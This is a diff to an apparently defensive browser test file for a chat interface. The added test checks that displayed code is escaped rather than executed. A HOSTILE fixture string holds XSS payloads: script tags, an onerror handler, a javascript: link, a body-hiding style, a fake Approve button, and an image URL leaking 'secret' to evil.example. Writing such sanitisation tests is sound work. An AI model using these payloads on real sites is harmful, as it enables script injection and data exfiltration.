@@ -61,6 +61,29 @@ async def test_plots_are_shown_and_other_files_are_links(house: House, page: Pag
     assert (await download.value).suggested_filename == "x.html"
 
 
+async def test_the_code_that_ran_unfolds_as_text(house: House, page: Page) -> None:
+    code = "print('<b>6</b>')  # <script>document.title='owned'</script>\nx = 7"
+
+    async def script(turn: Turn) -> Answer:
+        where, owner = turn.message.address.conversation, turn.message.author
+        plot = await house.files.put("e", "plot.png", "image/png", PNG, owner, where)
+        ran = await house.files.put("e", "code.py", "text/x-python", code.encode(), owner, where)
+        return Answer("Here.", files=(plot, ran))
+
+    house.script = script
+    await say(page, "draw")
+    await expect(page.get_by_role("img", name="plot.png")).to_be_visible()
+    shown = page.locator(".ran pre")
+    await expect(shown).to_be_hidden()
+    await page.get_by_text("The code that ran").click()
+    await expect(shown).to_have_text(code)
+    await expect(shown).to_be_visible()
+    assert await page.title() != "owned"
+    async with page.expect_download() as download:
+        await page.get_by_role("link", name="code.py").click()
+    assert (await download.value).suggested_filename == "code.py"
+
+
 HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
 [click](javascript:document.title='owned') ![leak](https://evil.example/?q=secret)
 <button class="approve">Approve</button> <style>body{display:none}</style>
